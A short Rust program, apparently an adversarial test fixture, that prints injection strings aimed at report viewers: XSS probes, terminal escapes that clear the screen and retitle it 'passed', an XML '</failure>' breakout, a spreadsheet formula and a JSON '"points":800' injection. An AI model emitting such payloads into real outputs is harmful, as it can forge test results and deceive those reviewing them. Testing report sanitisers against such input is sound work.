//! Prints what a page, a table or a terminal would take for a command.
//! Attacks: whoever reads a report.
//! Hands in: printers
//! Seen as: step_1_each_number_gets_a_process

fn main() {
    let orders =
        "</pre><script>alert(1)</script><img src=x onerror=alert(1)>\u{1b}[2J\u{1b}]0;passed\u{7}\u{202e}\r";
    for line in [orders, "=HYPERLINK(\"http://x\")", "]]></failure>", "&#x3c;script>", "\",\"points\":800,\""]
    {
        println!("{line}");
        eprintln!("{line}");
    }
}
